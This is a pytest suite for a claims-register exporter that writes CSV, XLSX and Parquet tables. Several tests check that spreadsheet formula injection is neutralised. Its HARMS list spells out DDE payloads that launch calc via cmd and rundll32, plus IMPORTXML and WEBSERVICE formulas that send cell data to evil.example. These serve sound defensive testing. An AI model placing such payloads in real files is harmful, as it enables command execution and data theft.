from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING, Any

import duckdb
import openpyxl
import pyarrow.parquet
import pytest
from csvw import CSVW
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from pactwatch.register.extract import extracting
from pactwatch.register.store import Register
from pactwatch.views.exports import Colophon, Links, claim_rows, export_xlsx
from pactwatch.views.exports.cells import guarded, printable, unguarded
from pactwatch.views.exports.columns import load_columns
from pactwatch.views.exports.csv_table import csv_lines

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from pactwatch.register.derived.citing import CitedDocument

    Export = Callable[..., Path]

NAMES = [column.name for column in load_columns()]
SIGNS = "=+-@＝＋－＠\t\r\n"
COLOPHON = Colophon(
    names=("US-RW",), entry=1, recorded_at="2026-11-25T10:00:00.000000Z", head="ab" * 32, version="0"
)


def rows_of(path: Path) -> list[dict[str, str]]:
    """Return the rows of a file as the csv module reads them."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def texts(register: str) -> dict[str, str]:
    """The text of each document of the register."""
    with Register.open(register) as opened, extracting(opened) as extract:
        return {each.source.document_id: each.document.text for each in extract.documents()}


def test_each_claim_is_one_row_whose_offsets_lead_to_its_words(export: Export, texts: dict[str, str]) -> None:
    """Offsets count code points, emoji and all."""
    rows = rows_of(export("claims.csv"))

    assert len(rows) == len({row["claim"] for row in rows}) == 7
    for row in rows:
        spans = [tuple(map(int, span.split("-"))) for span in row["offsets"].split()]
        words = " … ".join(texts[row["document"]][start:end] for start, end in spans)
        assert unguarded(row["quote"]) == words


def test_a_row_leads_to_the_claim_and_to_the_report(export: Export) -> None:
    """And says when and by whom it was decided on."""
    rows = rows_of(export("claims.csv", site="https://desk.example/"))

    paid = next(row for row in rows if row["type"] == "paid")
    assert paid["permalink"] == f"https://desk.example/claims/{paid['claim']}"
    assert paid["address"] == "https://news.example/signed"
    assert paid["arrangements"] == "US-RW"
    assert (paid["amount"], paid["currency"], paid["date"]) == ("7500000.0", "USD", "2025-06")
    assert (paid["decision"], paid["decided_by"]) == ("edit", "'=ann")
    assert paid["context"].startswith("WASHINGTON, June 3 (AP) - The two states signed")
    assert len(paid["text_sha256"]) == len(paid["capture_sha256"]) == 64


def test_a_table_is_as_of_two_days(export: Export) -> None:
    """By what had happened, and by what was recorded; nothing of this was recorded in 2020."""
    rows = rows_of(export("claims.csv", on="2025-05"))

    assert {row["type"] for row in rows if row["kind"] == "event"} == {"talks", "transfer"}
    assert rows_of(export("claims.csv", known_by="2020")) == []


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\u200b", "\ufeff", "\u00a0"])
def test_what_looks_like_a_formula_is_text(sign: str, before: str) -> None:
    """Spreadsheets also look behind spaces that nobody sees."""
    assert guarded(f"{before}{sign}1+1|cmd").startswith("'")


@given(st.text())
def test_the_guard_of_a_cell_can_be_taken_away(text: str) -> None:
    """A reader who takes one apostrophe away has every text as it was."""
    assert unguarded(guarded(text)) == text


def test_no_cell_of_a_csv_file_is_a_formula(export: Export) -> None:
    """Title, speaker, role, actor, publisher and quotes of the reports all try to be one."""
    cells = [cell for row in rows_of(export("claims.csv")) for cell in row.values()]

    assert [cell for cell in cells if cell.strip()[:1] in set(SIGNS)] == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any("\x07" in cell for cell in cells)


def test_a_csv_file_is_described_as_the_web_standard_has_it(export: Export) -> None:
    """CSV on the Web: a program finds the meaning of the columns beside the file."""
    path = export("claims.csv")

    description = path.with_name("claims.csv-metadata.json")
    assert CSVW(str(description)).is_valid
    about = json.loads(description.read_text("utf-8"))
    assert [column["name"] for column in about["tableSchema"]["columns"]] == NAMES
    assert "Log head" in about["dc:bibliographicCitation"]


def test_a_csv_file_is_written_while_documents_are_read(register: str) -> None:
    """A register of a million claims need not fit into memory."""
    taken: list[CitedDocument] = []

    def noted(documents: Iterator[CitedDocument]) -> Iterator[CitedDocument]:
        for each in documents:
            taken.append(each)
            yield each

    with Register.open(register) as opened, extracting(opened) as extract:
        lines = csv_lines(claim_rows(noted(extract.documents()), Links(None)))
        header, first = next(lines), next(lines)

    assert header.startswith(b"claim,permalink,kind")
    assert b"confirmed talks" in first
    assert len(taken) == 1


def test_a_workbook_has_no_formula_and_no_link(export: Export) -> None:
    """As another program reads it: each cell is a text or a number."""
    book = openpyxl.load_workbook(export("claims.xlsx"))

    assert book.sheetnames == ["Claims", "Data dictionary", "How to cite"]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    quotes = {row[NAMES.index("quote")].value for row in book["Claims"].iter_rows(min_row=2)}
    assert '=HYPERLINK("http://evil.example","x") was signed' in quotes


def test_a_workbook_explains_its_columns_and_how_to_cite(export: Export) -> None:
    """Whoever gets the file alone has what they need."""
    book = openpyxl.load_workbook(export("claims.xlsx"))

    dictionary = list(book["Data dictionary"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in dictionary] == NAMES
    cite = " ".join(str(row[0]) for row in book["How to cite"].iter_rows(values_only=True))
    assert "Log head" in cite
    assert "No hash shows that a report was published" in cite


def test_the_same_register_gives_the_same_workbook(export: Export) -> None:
    """Byte for byte, so that a hash of it can be cited."""
    assert export("one.xlsx").read_bytes() == export("two.xlsx").read_bytes()


def _row(number: int, **values: Any) -> dict[str, Any]:
    return dict.fromkeys(NAMES) | {"claim": f"claim {number}"} | values


HARMS = [
    f"{before}{sign}{formula}"
    for before in ("", " ", "\u200b", "\ufeff")
    for sign in "=+-@＝\t"
    for formula in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example","x")',
        "SUM(A1:A9)",
        'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
        'WEBSERVICE("http://evil.example/"&A1)',
        'DDE("cmd","/C calc","")',
        "rundll32|'URL.dll,OpenURL calc.exe'!A",
        "2+5+cmd|'/C calc'!A0",
    )
]


def test_two_spreadsheet_programs_find_no_formula_among_216(tmp_path: Path) -> None:
    """Each is the text that a report had, in XLSX to the letter and in CSV behind an apostrophe."""
    rows = [_row(number, quote=harm) for number, harm in enumerate(HARMS)]
    path = tmp_path / "harm.xlsx"
    with path.open("wb") as file:
        export_xlsx(iter(rows), file, COLOPHON)
    (tmp_path / "harm.csv").write_bytes(b"".join(csv_lines(rows)))
    column = NAMES.index("quote")

    one = openpyxl.load_workbook(path)["Claims"]
    other = CalamineWorkbook.from_path(path).get_sheet_by_name("Claims").to_python()

    assert len(HARMS) == 216
    cells = [row[column] for row in one.iter_rows(min_row=2)]
    assert [str(cell.value) for cell in cells] == HARMS
    assert "f" not in {cell.data_type for cell in cells}
    assert [row[column] for row in other[1:]] == HARMS
    assert [row["quote"] for row in rows_of(tmp_path / "harm.csv")] == [f"'{harm}" for harm in HARMS]


def test_what_no_sheet_holds_goes_on_the_next(tmp_path: Path) -> None:
    """Excel has room for 1,048,576 rows."""
    with (tmp_path / "many.xlsx").open("wb") as file:
        count = export_xlsx((_row(number) for number in range(5)), file, COLOPHON, most_rows=3)

    book = openpyxl.load_workbook(tmp_path / "many.xlsx")
    assert count == 5
    assert book.sheetnames[:3] == ["Claims", "Claims 2", "Claims 3"]
    assert [book[name].max_row for name in book.sheetnames[:3]] == [3, 3, 2]


def test_a_text_that_no_cell_holds_ends_in_an_ellipsis(tmp_path: Path) -> None:
    """A cell holds 32,767 UTF-16 units; more, and Excel calls the file damaged."""
    with (tmp_path / "long.xlsx").open("wb") as file:
        export_xlsx([_row(1, quote="😀" * 20_000)], file, COLOPHON)

    book = openpyxl.load_workbook(tmp_path / "long.xlsx")
    quote = str(book["Claims"].cell(2, NAMES.index("quote") + 1).value)
    assert quote == "😀" * 16_383 + "…"


def test_a_parquet_file_has_types_meanings_and_the_citation(export: Export) -> None:
    """And the words as they are: a data frame runs no formula."""
    path = export("claims.parquet")

    table = pyarrow.parquet.read_table(path)
    assert table.column_names == NAMES
    assert "hash" in table.schema.field("claim").metadata[b"description"].decode()
    assert b"Log head" in table.schema.metadata[b"citation"]
    ask = "SELECT sum(people), max(amount), min(recorded_at) > TIMESTAMP '2020-01-01' FROM read_parquet(?)"
    assert duckdb.execute(ask, [str(path)]).fetchall() == [(250, 7_500_000.0, True)]
    quotes = set(table["quote"].to_pylist())
    assert '=HYPERLINK("http://evil.example","x") was signed' in quotes


def test_all_tables_say_the_same(export: Export) -> None:
    """CSV, XLSX and Parquet differ in the guard of a cell and in nothing else."""
    rows = rows_of(export("claims.csv"))
    sheet = openpyxl.load_workbook(export("claims.xlsx"))["Claims"]
    table = pyarrow.parquet.read_table(export("claims.parquet")).to_pylist()

    in_sheet = [dict(zip(NAMES, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    for one, two, three in zip(rows, in_sheet, table, strict=True):
        for name in ("claim", "title", "quote", "offsets", "speaker", "role", "text_sha256"):
            assert unguarded(one[name]) == (two[name] or "") == printable(three[name] or "")
